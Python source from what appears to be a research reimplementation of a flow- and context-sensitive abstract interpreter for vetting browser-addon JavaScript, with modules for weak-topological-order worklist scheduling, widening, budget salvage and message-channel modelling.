        if "read_this_props" in effects:
            for access in weak_accesses(this_value):
                rw.add_read_prop(access)
        if "write_this_props" in effects:
            for access in weak_accesses(this_value):
                rw.add_write_prop(access)
        if "read_arg_props" in effects or "write_arg_props" in effects:
            for arg in arg_values:
                if "read_arg_props" in effects:
                    for access in weak_accesses(arg):
                        rw.add_read_prop(access)
                if "write_arg_props" in effects:
                    for access in weak_accesses(arg):
                        rw.add_write_prop(access)
        for effect in effects:
            # A message-channel write: the stub joins its payload into the
            # channel, modeled as a weak write of the channel's synthetic
            # global slot (the matching read happens at every event loop
            # that dispatches the channel — see _compute_event_loop).
            if effect.startswith("chan_w:"):
                channel = effect[len("chan_w:"):]
                rw.add_write_var((-1, channel_slot(channel)), False)

    def _compute_event_loop(self, sid, state, rw):
        # Everything the loop dispatches — legacy DOM handlers plus this
        # loop's channel handlers — gets weak param/this writes; channel
        # dispatch additionally reads each dispatched channel's payload
        # slot, which is what carries a sender's data into the handler.
        dispatched = self.result.loop_dispatches.get(sid)
        handlers = dispatched if dispatched is not None else self.result.handlers
        for address in sorted(handlers.addresses):
            if not state.heap.contains(address):
                continue
            for fid in sorted(state.heap.get(address).closures):
                function = self.program.functions[fid]
                for param in function.params:
                    rw.add_write_var((fid, param), False)
                rw.add_write_var((fid, "this"), False)
        for channel in sorted(self.result.loop_channels.get(sid, ())):
            rw.add_read_var((-1, channel_slot(channel)), False)
