"""Weak-topological-order scheduling for the fixpoint worklist.

The interpreter's worklist used to process pending ``(statement,
context)`` nodes in plain statement-id order — a good approximation of
reverse postorder for the code the lowerer emits, but blind to the
actual shape of the flow graph. This module computes a Bourdoncle-style
weak topological order instead:

1. Take the static flow graph over *all* statements (every stored edge
   kind: SEQ, JUMP, IMPLICIT, FALLTHROUGH).
2. Condense it into strongly connected components (iterative Tarjan,
   shared with the CFG layer).
3. Topologically order the condensation, breaking ties by the smallest
   statement id in each component, and use each component's position as
   the scheduling *rank* of all its statements.

Scheduling by ``(rank, sid, context)`` means every statement of an
inner cyclic component sorts before anything downstream of it: the
component is iterated to stabilization before its results propagate
outward, instead of re-visiting the downstream suffix once per inner
iteration. The min-sid tie-break keeps the order aligned with statement
order wherever the graph itself does not force a difference, so the
schedule is a refinement of the previous behavior, not a reshuffle.

Each cyclic component also designates a *widening point* (its smallest
statement id — the component's entry for the lowering's reducible
graphs). The interpreter arms a per-loop-head join budget at these
statements and widens only there, rather than applying any global
heuristic; see ``Interpreter._propagate``.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass

from repro.ir.cfg import strongly_connected_components
from repro.ir.nodes import ProgramIR


@dataclass(frozen=True)
class WTOSchedule:
    """The precomputed schedule: statement id -> rank, plus the widening
    points (one head per cyclic component)."""

    rank: dict[int, int]
    heads: frozenset[int]
    #: Number of condensation components (``wto_components`` counter).
    components: int
    #: Number of cyclic components (each contributes one widening point).
    cyclic_components: int


def build_schedule(program: ProgramIR) -> WTOSchedule:
    """Compute the weak topological order of ``program``'s flow graph."""
    nodes = sorted(program.stmts)
    successors: dict[int, list[int]] = {
        sid: [edge.target for edge in stmt.edges]
        for sid, stmt in program.stmts.items()
    }
    sccs = strongly_connected_components(nodes, successors)

    component_of: dict[int, int] = {}
    for index, scc in enumerate(sccs):
        for sid in scc:
            component_of[sid] = index

    # Condensation edges and in-degrees.
    out_edges: list[set[int]] = [set() for _ in sccs]
    indegree = [0] * len(sccs)
    for sid in nodes:
        source = component_of[sid]
        for target_sid in successors[sid]:
            target = component_of.get(target_sid)
            if target is not None and target != source and target not in out_edges[source]:
                out_edges[source].add(target)
                indegree[target] += 1

    # Kahn's algorithm with a min-heap keyed by each component's smallest
    # statement id: a topological order of the condensation that sticks
    # to statement order whenever the graph allows it.
    min_sid = [min(scc) for scc in sccs]
    ready = [
        (min_sid[index], index)
        for index in range(len(sccs))
        if indegree[index] == 0
    ]
    heapq.heapify(ready)
    rank: dict[int, int] = {}
    position = 0
    while ready:
        _key, index = heapq.heappop(ready)
        for sid in sccs[index]:
            rank[sid] = position
        position += 1
        for target in out_edges[index]:
            indegree[target] -= 1
            if indegree[target] == 0:
                heapq.heappush(ready, (min_sid[target], target))

    heads = frozenset(
        min(scc)
        for scc in sccs
        if len(scc) > 1
        or scc[0] in successors[scc[0]]  # self-loop
    )
    return WTOSchedule(
        rank=rank,
        heads=heads,
        components=len(sccs),
        cyclic_components=len(heads),
    )
