"""The flow- and context-sensitive abstract interpreter (the JSAI role).

A worklist fixpoint over ``(statement, context)`` pairs. Each pair has an
*input* abstract state; processing a statement applies its transfer
function and propagates the result along the statement's CFG edges:

- SEQ edges carry normal flow,
- JUMP edges carry returns (to the function exit) and throws (to the
  innermost handler),
- IMPLICIT edges carry the state at a potential implicit exception
  (property access on undefined/null, call of a non-function) — and the
  statements for which this actually fires are recorded in ``throwing``,
  which later prunes the stage-3 CDG (Section 3.3),
- calls flow into callee entries under a pushed context; function exits
  flow back to every recorded return site.

The analysis computes exactly what the paper's PDG construction consumes:
a context-sensitive interprocedural CFG (statement × context reachability
plus call/return edges) and, via :mod:`repro.analysis.readwrite`, the
per-statement read/write sets with strong/weak qualification.

The synthetic event loop statement dispatches, non-deterministically, to
every handler registered through the browser stubs — the paper's
treatment of the addon event-driven execution model.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass, field

from repro.analysis import builtins, transfer
from repro.analysis.contexts import EMPTY_CONTEXT, CallSiteSensitivity, Context
from repro.analysis.environment import DefaultEnvironment, Environment, NativeCall
from repro.analysis.wto import build_schedule
from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject, function_object, interned_object
from repro.domains.state import COPIES, State
from repro.domains.values import AbstractValue
from repro.faults import Budget, Degradation, FailureKind
from repro.perf import Counters
from repro.ir.nodes import (
    AllocStmt,
    AssignStmt,
    Atom,
    AtomRhs,
    BinOpRhs,
    BranchStmt,
    CallStmt,
    CatchStmt,
    ClosureStmt,
    Const,
    ConstructStmt,
    DeletePropStmt,
    EdgeKind,
    EntryStmt,
    EventLoopStmt,
    ExitStmt,
    ForInNextStmt,
    LoadPropStmt,
    NopStmt,
    ProgramIR,
    ReturnStmt,
    Rhs,
    Stmt,
    StorePropStmt,
    ThrowStmt,
    UnOpRhs,
    Var,
)

#: Analysis-internal variable name for the per-function return slot.
RETURN_SLOT = "%ret"


def channel_slot(channel: str) -> str:
    """The synthetic global variable carrying a message channel's payload.

    Channel writes (``chrome.runtime.sendMessage`` et al.) are modeled as
    weak writes of this variable via the ``chan_w:<channel>`` native
    effect; every event loop that dispatches the channel's handlers reads
    it. That single shared variable is what gives the data-dependence
    pass its cross-component edges."""
    return f"%channel:{channel}"


def exception_slot(handler_sid: int) -> str:
    """The analysis-internal variable carrying the in-flight exception
    for one specific catch handler. Keeping the slot per-handler (rather
    than per-function) prevents spurious data edges between unrelated
    try blocks."""
    return f"%exc@{handler_sid}"

Node = tuple[int, Context]


class AnalysisBudgetExceeded(RuntimeError):
    """A cooperative analysis budget (steps, wall clock, or abstract
    states) tripped and salvage mode was not enabled. Carries the
    taxonomy kind so callers can report it without string matching."""

    def __init__(self, message: str, kind: FailureKind = FailureKind.BUDGET_STEPS):
        super().__init__(message)
        self.kind = kind


@dataclass
class AnalysisResult:
    """Everything downstream phases need from the base analysis."""

    program: ProgramIR
    #: Input abstract state per (statement id, context).
    states: dict[Node, State]
    #: (call sid, caller ctx) -> {(callee fid, callee ctx)}.
    call_edges: dict[Node, set[tuple[int, Context]]]
    #: (callee fid, callee ctx) -> {(call sid, caller ctx)}.
    return_sites: dict[tuple[int, Context], set[Node]]
    #: Statements that may raise an implicit exception.
    throwing: frozenset[int]
    #: Call statements whose callee the analysis could not resolve at all.
    unknown_callees: frozenset[int]
    #: Joined value of all registered event handlers.
    handlers: AbstractValue
    #: Functions that may have several simultaneously live frames
    #: (recursion): their locals never admit strong updates.
    multi_instance: frozenset[int]
    #: (tag, statement id) diagnostics raised by native stubs — e.g.
    #: dynamic-code patterns like a string argument to setTimeout
    #: (restricted by the vetting policy, Section 2).
    diagnostics: frozenset[tuple[str, int]]
    sensitivity: CallSiteSensitivity
    #: Hot-path observability: fixpoint steps, states created, joins, ...
    #: Pure reporting — never consulted by the analysis itself.
    counters: Counters = field(default_factory=Counters)
    #: Budget trips recorded by salvage mode; empty for a clean run.
    #: A degraded result is still usable, but downstream phases must
    #: treat it conservatively (all-weak read/write sets, signature
    #: widened to ⊤ over the spec) — see DESIGN.md.
    degradations: tuple[Degradation, ...] = ()
    #: Statements whose fixpoint work was abandoned when a budget
    #: tripped (their input states may under-approximate).
    unsettled: frozenset[int] = frozenset()
    #: Event-loop sid -> joined value of every handler dispatched there
    #: (legacy DOM handlers plus channel handlers). The read/write pass
    #: derives the loop's param/this writes from this.
    loop_dispatches: dict[int, AbstractValue] = field(default_factory=dict)
    #: Event-loop sid -> message channels whose handlers dispatch there.
    #: Drives the channel-payload reads in the read/write pass and the
    #: ``ChannelSource`` spec matcher.
    loop_channels: dict[int, frozenset[str]] = field(default_factory=dict)

    @property
    def degraded(self) -> bool:
        return bool(self.degradations)

    # The spec matchers interrogate the result once per source/sink/API
    # matcher; these lazily built indexes replace their repeated scans of
    # the full ``states`` map. ``states`` is never mutated after
    # construction, so the memoization is safe.
    _contexts_index: dict[int, list[Context]] | None = field(
        default=None, init=False, repr=False, compare=False
    )
    _type_index: dict[type, list[Node]] | None = field(
        default=None, init=False, repr=False, compare=False
    )

    def _sid_contexts(self) -> dict[int, list[Context]]:
        if self._contexts_index is None:
            index: dict[int, list[Context]] = {}
            for (sid, ctx) in self.states:
                index.setdefault(sid, []).append(ctx)
            self._contexts_index = index
        return self._contexts_index

    def contexts(self, sid: int) -> list[Context]:
        return self._sid_contexts().get(sid, [])

    def reachable(self, sid: int) -> bool:
        return sid in self._sid_contexts()

    def nodes_of_type(self, *stmt_types: type) -> list[Node]:
        """All ``(sid, context)`` nodes whose statement is exactly one of
        the given IR classes (IR statements do not subclass each other),
        in deterministic statement order."""
        if self._type_index is None:
            index: dict[type, list[Node]] = {}
            for node in sorted(self.states):
                index.setdefault(type(self.program.stmts[node[0]]), []).append(node)
            self._type_index = index
        if len(stmt_types) == 1:
            return self._type_index.get(stmt_types[0], [])
        nodes: list[Node] = []
        for stmt_type in stmt_types:
            nodes.extend(self._type_index.get(stmt_type, []))
        return nodes

    def in_state(self, sid: int, context: Context) -> State:
        return self.states[(sid, context)]

    def atom_value(self, sid: int, context: Context, atom: Atom) -> AbstractValue:
        """The value of ``atom`` in the input state of (sid, context)."""
        state = self.states.get((sid, context))
        if state is None:
            return values_domain.BOTTOM
        return _eval_atom(atom, state)

    def atom_value_joined(self, sid: int, atom: Atom) -> AbstractValue:
        """The value of ``atom`` at ``sid``, joined over all contexts."""
        result = values_domain.BOTTOM
        for context in self.contexts(sid):
            result = result.join(self.atom_value(sid, context, atom))
        return result

    def callee_functions(self, sid: int) -> set[int]:
        """All IR functions a call statement may invoke (any context)."""
        fids: set[int] = set()
        for (node_sid, _ctx), targets in self.call_edges.items():
            if node_sid == sid:
                fids.update(fid for fid, _ in targets)
        return fids

    def callee_native_tags(self, sid: int) -> set[str]:
        """Native tags a call statement may invoke (any context)."""
        stmt = self.program.stmts[sid]
        if not isinstance(stmt, (CallStmt, ConstructStmt)):
            return set()
        tags: set[str] = set()
        for context in self.contexts(sid):
            state = self.states[(sid, context)]
            callee = _eval_atom(stmt.callee, state)
            for address in callee.addresses:
                if state.heap.contains(address):
                    native = state.heap.get(address).native
                    if native is not None:
                        tags.add(native)
        return tags


def _eval_atom(atom: Atom, state: State) -> AbstractValue:
    if isinstance(atom, Const):
        return values_domain.from_constant(atom.value)
    assert isinstance(atom, Var)
    return state.read_var(atom)


def _has_normal_continuation(base: AbstractValue) -> bool:
    """A property access continues normally unless the base can only be
    undefined or null."""
    return bool(base.addresses) or (
        not base.boolean.is_bottom
        or not base.number.is_bottom
        or not base.string.is_bottom
    )


class Interpreter:
    """Runs the abstract interpretation to a fixpoint."""

    def __init__(
        self,
        program: ProgramIR,
        environment: Environment | None = None,
        k: int = 1,
        max_steps: int = 400_000,
        budget: Budget | None = None,
        salvage: bool = False,
        widen_after: int = 512,
    ):
        self.program = program
        self.environment = environment or DefaultEnvironment()
        self.sensitivity = CallSiteSensitivity(k)
        #: The cooperative budget; ``max_steps`` is the legacy spelling
        #: of a steps-only budget and is ignored when ``budget`` is given.
        self.budget = budget if budget is not None else Budget(max_steps=max_steps)
        self.max_steps = self.budget.max_steps
        #: With ``salvage`` on, a tripped budget degrades the run (see
        #: :meth:`_salvage`) instead of raising AnalysisBudgetExceeded.
        self.salvage = salvage
        self.degradations: list[Degradation] = []
        self.unsettled: set[int] = set()
        self.natives = dict(builtins.NATIVE_TABLE)
        self.natives.update(self.environment.natives)

        #: Weak topological order of the static flow graph: each pending
        #: node is scheduled by its component's rank, so inner cyclic
        #: components stabilize before their results propagate outward.
        self.schedule = build_schedule(program)
        self._rank = self.schedule.rank
        #: Per-loop-head widening: after this many growing joins at one
        #: (head, context) node, the join is widened. High enough that
        #: ordinary programs converge well below it — widening is a
        #: termination safeguard, not a precision policy.
        self.widen_after = widen_after
        self._head_joins: dict[Node, int] = {}

        self.states: dict[Node, State] = {}
        self.worklist: list[tuple[int, int, Context]] = []  # heapq by (rank, sid, context)
        self.on_worklist: set[Node] = set()
        self.call_edges: dict[Node, set[tuple[int, Context]]] = {}
        self.return_sites: dict[tuple[int, Context], set[Node]] = {}
        self.throwing: set[int] = set()
        self.unknown_callees: set[int] = set()
        self.handler_value: AbstractValue = values_domain.BOTTOM
        #: (channel, registering component or None) -> joined handler value.
        self.channel_handlers: dict[tuple[str, str | None], AbstractValue] = {}
        #: channel -> joined payload of every write observed so far.
        self.channel_payloads: dict[str, AbstractValue] = {}
        #: Event-loop sid -> joined dispatched handler value / channels.
        self.loop_dispatches: dict[int, AbstractValue] = {}
        self.loop_channels: dict[int, set[str]] = {}
        self.diagnostics: set[tuple[str, int]] = set()
        self._eventloop_nodes: set[Node] = set()
        self._stub_addresses: dict[tuple[int, int], int] = {}
        self._next_stub_address = -1_000_000
        self._call_graph: dict[int, set[int]] = {}
        self._multi_instance: set[int] = set()
        #: Compiled transfer closures, one per statement id, filled
        #: lazily by :meth:`_process` on first visit.
        self._compiled: dict[int, object] = {}
        self.counters = Counters()

    # ------------------------------------------------------------------
    # Services used by native stubs

    def alloc_at(self, sid: int, salt: int, obj: AbstractObject, state: State) -> int:
        """Allocate an object on behalf of a native stub, with a stable
        address derived from the call site (so the fixpoint converges)."""
        key = (sid, salt)
        address = self._stub_addresses.get(key)
        if address is None:
            address = self._next_stub_address
            self._next_stub_address -= 1
            self._stub_addresses[key] = address
        state.heap.allocate(address, obj)
        return address

    def report_diagnostic(self, tag: str, sid: int) -> None:
        """Record a stub-raised vetting diagnostic (e.g. dynamic code)."""
        self.diagnostics.add((tag, sid))

    def register_event_handler(self, value: AbstractValue) -> None:
        """Record a handler value registered via addEventListener-style
        stubs; re-examines the event loop when the set grows."""
        joined = self.handler_value.join(value)
        if joined != self.handler_value:
            self.handler_value = joined
            for node in self._eventloop_nodes:
                self._enqueue(node)

    def register_channel_handler(
        self, channel: str, value: AbstractValue, sid: int
    ) -> None:
        """Record a message handler registered on ``channel`` (e.g. by
        ``chrome.runtime.onMessage.addListener``). The handler is keyed
        by the *component* whose code registered it, so each component's
        event loop dispatches only its own handlers; re-examines the
        event loops when the set grows."""
        key = (channel, self.program.component_of(sid))
        existing = self.channel_handlers.get(key, values_domain.BOTTOM)
        joined = existing.join(value)
        if joined != existing:
            self.channel_handlers[key] = joined
            for node in self._eventloop_nodes:
                self._enqueue(node)

    def channel_write(self, channel: str, value: AbstractValue) -> None:
        """Join ``value`` into a channel's abstract payload (e.g. the
        message argument of ``chrome.runtime.sendMessage``); re-examines
        the event loops when the payload grows."""
        existing = self.channel_payloads.get(channel, values_domain.BOTTOM)
        joined = existing.join(value)
        if joined != existing:
            self.channel_payloads[channel] = joined
            for node in self._eventloop_nodes:
                self._enqueue(node)

    # ------------------------------------------------------------------
    # Fixpoint driver

    def run(self) -> AnalysisResult:
        copies_before = COPIES.value
        initial = State()
        builtins.install(initial)
        self.environment.setup(initial, self)
        entry = self.program.main.entry
        self._propagate(entry.sid, EMPTY_CONTEXT, initial)

        meter = self.budget.start()
        steps = 0
        processed = 0
        while self.worklist:
            steps += 1
            tripped = meter.check(steps, len(self.states))
            if tripped is not None:
                if not self.salvage:
                    raise AnalysisBudgetExceeded(meter.describe(tripped), kind=tripped)
                self._salvage(tripped, meter.describe(tripped))
                break
            # Process in weak topological order: a pending node inside an
            # inner cyclic component sorts before everything downstream
            # of the component, so the cycle iterates to stabilization
            # before its results propagate outward. Rank ties (same
            # component, or components the graph does not order) fall
            # back to statement order, matching the previous scheduling.
            _rank, sid, context = heapq.heappop(self.worklist)
            node = (sid, context)
            self.on_worklist.discard(node)
            self._process(node)
            processed += 1

        self.counters["fixpoint_steps"] = steps
        # Visits served by an already-compiled transfer closure (every
        # visit after a statement's first).
        self.counters["closure_cache_hits"] = processed - len(self._compiled)
        self.counters["analysis_nodes"] = len(self.states)
        self.counters["states_created"] = COPIES.value - copies_before
        # All state copies share structure (O(1) persistent-map copies).
        self.counters["shared_copies"] = COPIES.value - copies_before
        self.counters["wto_components"] = self.schedule.components
        self.counters["widening_points"] = self.schedule.cyclic_components
        return AnalysisResult(
            program=self.program,
            states=self.states,
            call_edges=self.call_edges,
            return_sites=self.return_sites,
            throwing=frozenset(self.throwing),
            unknown_callees=frozenset(self.unknown_callees),
            handlers=self.handler_value,
            multi_instance=frozenset(self._multi_instance),
            diagnostics=frozenset(self.diagnostics),
            sensitivity=self.sensitivity,
            counters=self.counters,
            degradations=tuple(self.degradations),
            unsettled=frozenset(self.unsettled),
            loop_dispatches=dict(self.loop_dispatches),
            loop_channels={
                sid: frozenset(channels)
                for sid, channels in self.loop_channels.items()
            },
        )

    def _salvage(self, kind: FailureKind, detail: str) -> None:
        """Finish a budget-tripped run in a usable, flagged form.

        The states computed so far are a *prefix* of the fixpoint (joins
        are monotone, so every stored state under-approximates the true
        fixpoint state). Salvage records which statements still had
        pending work, marks every function multi-instance (so no local
        write is ever treated as a strong kill downstream), and flags
        the result degraded. Soundness is restored one level up: a
        degraded result's read/write sets are all-weak and its signature
        is widened to ⊤ over the security spec, which over-approximates
        whatever the abandoned fixpoint work could have contributed (see
        DESIGN.md, "Failure modes and degradation semantics")."""
        self.degradations.append(Degradation(kind=kind, detail=detail))
        self.unsettled.update(sid for sid, _ctx in self.on_worklist)
        self._multi_instance.update(self.program.functions)
        self.counters.bump("salvaged_worklist_nodes", len(self.on_worklist))
        self.worklist.clear()
        self.on_worklist.clear()

    def _enqueue(self, node: Node) -> None:
        if node not in self.on_worklist:
            self.on_worklist.add(node)
            sid, context = node
            heapq.heappush(self.worklist, (self._rank.get(sid, 0), sid, context))

    def _propagate(self, sid: int, context: Context, state: State) -> None:
        self.counters.bump("propagations")
        node = (sid, context)
        existing = self.states.get(node)
        if existing is None:
            self.states[node] = state
            self._enqueue(node)
            return
        # join_changed reports growth explicitly (the fixpoint test) and
        # may hand back an equal state whose trie has adopted the
        # incoming side's nodes — storing it either way is what makes
        # the next join along this edge short-circuit on node identity.
        merged, changed = existing.join_changed(state)
        if changed and sid in self.schedule.heads:
            # Per-loop-head widening: a head whose state keeps growing
            # past its join budget is widened so the cycle stabilizes.
            count = self._head_joins.get(node, 0) + 1
            self._head_joins[node] = count
            if count >= self.widen_after:
                merged = existing.widen(merged)
                self.counters.bump("widenings")
        if merged is not existing:
            self.states[node] = merged
        if changed:
            self.counters.bump("state_joins")
            self._enqueue(node)

    # ------------------------------------------------------------------
    # Statement dispatch: compiled transfer closures

    def _process(self, node: Node) -> None:
        # Each statement's transfer function is compiled once, on first
        # visit, into a closure with everything per-visit dispatch used
        # to redo — node-type tests, atom/constant resolution, edge
        # target lists, copy-or-not, write strength — resolved up front.
        # Every later visit (the overwhelming majority under a fixpoint)
        # is a dict hit plus a direct call; ``closure_cache_hits``
        # reports exactly those.
        sid, context = node
        run = self._compiled.get(sid)
        if run is None:
            run = self._compile(self.program.stmts[sid])
            self._compiled[sid] = run
        run(context, self.states[node])

    def _compile(self, stmt: Stmt):
        """Build the transfer closure for one statement. The closures
        mirror the former ``_do_*`` methods exactly — same evaluation
        order, same copy discipline (statements that mutate state work
        on a private copy; read-only ones use the stored state as-is)."""
        stype = type(stmt)
        propagate = self._propagate

        if stype is AssignStmt:
            eval_rhs = self._compile_rhs(stmt.rhs)
            write = self._compile_var_write(stmt.target, stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                write(state, eval_rhs(state))
                flow(context, state)

            return run

        if stype is LoadPropStmt:
            read_obj = self._compile_atom(stmt.obj)
            read_prop = self._compile_atom(stmt.prop)
            write = self._compile_var_write(stmt.target, stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)
            throw = self._compile_implicit_throw(stmt)
            method_lookup = self._object_method_lookup
            primitive_member = self._primitive_member

            def run(context: Context, state: State) -> None:
                state = state.copy()
                obj = read_obj(state)
                if obj.may_throw_on_property_access():
                    throw(context, state)
                name = read_prop(state).to_property_name()
                value = values_domain.BOTTOM
                if obj.addresses:
                    value = value.join(state.heap.read(obj.addresses, name))
                    value = value.join(method_lookup(state, obj, name))
                value = value.join(primitive_member(obj, name))
                if not _has_normal_continuation(obj):
                    # Base can only be undefined/null. In real JS this
                    # throws; in practice it usually means an unmodeled
                    # host API, so we keep the analysis going with an
                    # unknown result (the implicit throw is recorded).
                    value = value.join(builtins.unknown_value())
                write(state, value)
                flow(context, state)

            return run

        if stype is StorePropStmt:
            read_obj = self._compile_atom(stmt.obj)
            read_prop = self._compile_atom(stmt.prop)
            read_value = self._compile_atom(stmt.value)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)
            throw = self._compile_implicit_throw(stmt)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                obj = read_obj(state)
                if obj.may_throw_on_property_access():
                    throw(context, state)
                name = read_prop(state).to_property_name()
                value = read_value(state)
                if obj.addresses:
                    state.heap.write(obj.addresses, name, value)
                # Continue even when the base can only be undefined/null:
                # usually an unmodeled host API (the throw is recorded).
                flow(context, state)

            return run

        if stype is DeletePropStmt:
            read_obj = self._compile_atom(stmt.obj)
            read_prop = self._compile_atom(stmt.prop)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)
            throw = self._compile_implicit_throw(stmt)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                obj = read_obj(state)
                if obj.may_throw_on_property_access():
                    throw(context, state)
                name = read_prop(state).to_property_name()
                if obj.addresses:
                    state.heap.delete(obj.addresses, name)
                flow(context, state)

            return run

        if stype is AllocStmt or stype is ClosureStmt:
            if stype is AllocStmt:
                obj = interned_object(AbstractObject(kind=stmt.kind))
            else:
                obj = function_object(stmt.function_id)
            address = stmt.sid
            addr_value = values_domain.from_addresses(address)
            write = self._compile_var_write(stmt.target, stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                state.heap.allocate(address, obj)
                write(state, addr_value)
                flow(context, state)

            return run

        if stype is BranchStmt:
            read_cond = self._compile_atom(stmt.condition)
            targets = tuple(
                e.target for e in stmt.edges if e.kind is EdgeKind.SEQ
            )
            if len(targets) == 1:
                only = targets[0]

                def run(context: Context, state: State) -> None:
                    condition = read_cond(state)
                    if condition.may_be_truthy() or condition.may_be_falsy():
                        propagate(only, context, state)

                return run

            first, second = targets[0], targets[1]
            truthy_first = stmt.truthy_first

            def run(context: Context, state: State) -> None:
                condition = read_cond(state)
                may_true = condition.may_be_truthy()
                may_false = condition.may_be_falsy()
                if may_true if truthy_first else may_false:
                    propagate(first, context, state)
                if may_false if truthy_first else may_true:
                    propagate(second, context, state)

            return run

        if stype is ReturnStmt:
            fid = self.program.owner[stmt.sid]
            read_value = (
                self._compile_atom(stmt.value) if stmt.value is not None else None
            )
            write = self._compile_var_write(Var(RETURN_SLOT, fid), stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.JUMP)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                value = (
                    read_value(state) if read_value is not None
                    else values_domain.UNDEF
                )
                write(state, value)
                flow(context, state)

            return run

        if stype is ThrowStmt:
            fid = self.program.owner[stmt.sid]
            read_value = self._compile_atom(stmt.value)
            handlers = tuple(
                (e.target, self._compile_var_write(
                    Var(exception_slot(e.target), fid), stmt.sid
                ))
                for e in stmt.edges
                if e.kind is EdgeKind.JUMP
            )

            def run(context: Context, state: State) -> None:
                value = read_value(state)
                for target, write in handlers:  # empty => uncaught
                    out = state.copy()
                    write(out, value)
                    propagate(target, context, out)

            return run

        if stype is CatchStmt:
            fid = self.program.owner[stmt.sid]
            exc_var = Var(exception_slot(stmt.sid), fid)
            write = self._compile_var_write(stmt.target, stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)

            def run(context: Context, state: State) -> None:
                state = state.copy()
                value = state.read_var(exc_var)
                if value.is_bottom or value.may_undef:
                    value = value.join(builtins.ERROR_VALUE)
                write(state, value)
                flow(context, state)

            return run

        if stype is ForInNextStmt:
            write = self._compile_var_write(stmt.target, stmt.sid)
            flow = self._compile_flow(stmt, EdgeKind.SEQ)

            def run(context: Context, state: State) -> None:
                # The loop variable is some enumerable property name.
                state = state.copy()
                write(state, values_domain.ANY_STRING)
                flow(context, state)

            return run

        if stype is CallStmt or stype is ConstructStmt:
            do_call = self._do_call

            def run(context: Context, state: State, _stmt=stmt) -> None:
                do_call(_stmt, context, state)

            return run

        if stype is EventLoopStmt:
            do_event_loop = self._do_event_loop

            def run(context: Context, state: State, _stmt=stmt) -> None:
                do_event_loop(_stmt, context, state)

            return run

        if stype is ExitStmt:
            do_exit = self._do_exit

            def run(context: Context, state: State, _stmt=stmt) -> None:
                do_exit(_stmt, context, state)

            return run

        if stype is EntryStmt or stype is NopStmt:
            # break/continue lower to NopStmts whose only real edge is a
            # JUMP to the loop exit/header — follow those too.
            targets = tuple(
                e.target
                for e in stmt.edges
                if e.kind in (EdgeKind.SEQ, EdgeKind.JUMP)
            )

            def run(context: Context, state: State) -> None:
                for target in targets:
                    propagate(target, context, state)

            return run

        raise TypeError(f"unhandled statement {stmt!r}")  # pragma: no cover

    def _compile_atom(self, atom: Atom):
        """An evaluator closure for one atom: constants resolve to their
        abstract value now; variables to a prebuilt environment key."""
        if isinstance(atom, Const):
            value = values_domain.from_constant(atom.value)
            return lambda state, _value=value: _value
        assert isinstance(atom, Var)
        key = (atom.scope, atom.name)

        def read(state: State, _key=key):
            value = state.vars.get(_key)
            # Never assigned: undefined (hoisted local / missing global).
            return values_domain.UNDEF if value is None else value

        return read

    def _compile_rhs(self, rhs: Rhs):
        if isinstance(rhs, AtomRhs):
            return self._compile_atom(rhs.atom)
        if isinstance(rhs, BinOpRhs):
            left = self._compile_atom(rhs.left)
            right = self._compile_atom(rhs.right)
            operator = rhs.operator
            binary_op = transfer.binary_op
            return lambda state: binary_op(operator, left(state), right(state))
        assert isinstance(rhs, UnOpRhs)
        operand = self._compile_atom(rhs.operand)
        operator = rhs.operator
        unary_op = transfer.unary_op
        return lambda state: unary_op(operator, operand(state))

    def _compile_var_write(self, var: Var, sid: int):
        """A writer closure with the static part of the strong/weak
        decision resolved now (see :meth:`_strong_var`); only the
        multi-instance test — which evolves as the call graph is
        discovered — stays a runtime check."""
        if var.scope == -1:  # GLOBAL_SCOPE: always strong
            return lambda state, value, _var=var: state.write_var(_var, value, True)
        if var.scope != self.program.owner[sid]:
            # Captured outer local: other frames may be live — weak.
            return lambda state, value, _var=var: state.write_var(_var, value, False)
        multi_instance = self._multi_instance  # live set, mutated in place

        def write(state: State, value, _var=var, _scope=var.scope):
            state.write_var(_var, value, _scope not in multi_instance)

        return write

    def _compile_flow(self, stmt: Stmt, kind: EdgeKind):
        targets = tuple(e.target for e in stmt.edges if e.kind is kind)
        propagate = self._propagate
        if len(targets) == 1:
            only = targets[0]
            return lambda context, state: propagate(only, context, state)

        def flow(context: Context, state: State) -> None:
            for target in targets:
                propagate(target, context, state)

        return flow

    def _compile_implicit_throw(self, stmt: Stmt):
        """The compiled form of :meth:`_record_implicit_throw`: handler
        targets and their exception-slot writers are resolved once."""
        sid = stmt.sid
        throwing = self.throwing
        targets = tuple(
            e.target for e in stmt.edges if e.kind is EdgeKind.IMPLICIT
        )
        if not targets:
            def record(context: Context, state: State) -> None:
                throwing.add(sid)  # uncaught: termination, out of scope

            return record
        fid = self.program.owner[sid]
        handlers = tuple(
            (target, self._compile_var_write(
                Var(exception_slot(target), fid), sid
            ))
            for target in targets
        )
        propagate = self._propagate
        error_value = builtins.ERROR_VALUE

        def record(context: Context, state: State) -> None:
            throwing.add(sid)
            for target, write in handlers:
                exc_state = state.copy()
                write(exc_state, error_value)
                propagate(target, context, exc_state)

        return record

    # ------------------------------------------------------------------
    # Flow helpers

    def _flow_seq(self, stmt: Stmt, context: Context, state: State) -> None:
        targets = [e.target for e in stmt.edges if e.kind is EdgeKind.SEQ]
        self._flow_to(targets, context, state)

    def _flow_to(self, targets: list[int], context: Context, state: State) -> None:
        # One state object may flow to several targets unchanged: once a
        # state is propagated it is never mutated in place (every
        # mutating transfer works on a private copy), so sharing it
        # across successor nodes is safe and saves a copy per extra
        # target.
        for target in targets:
            self._propagate(target, context, state)

    def _record_implicit_throw(self, stmt: Stmt, context: Context, state: State) -> None:
        self.throwing.add(stmt.sid)
        targets = [e.target for e in stmt.edges if e.kind is EdgeKind.IMPLICIT]
        if not targets:
            return  # uncaught: termination, out of scope
